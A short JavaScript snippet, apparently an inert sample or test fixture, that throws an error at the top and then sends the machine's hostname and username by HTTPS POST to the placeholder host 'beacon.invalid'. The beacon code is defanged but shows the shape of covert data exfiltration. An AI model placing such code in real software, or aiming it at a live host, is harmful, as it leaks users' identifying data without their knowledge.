throw new Error("inert example");
const os = require("os");
const https = require("https");
const request = https.request({ host: "beacon.invalid", method: "POST" });
request.write(JSON.stringify({ host: os.hostname(), user: os.userInfo().username }));
request.end();
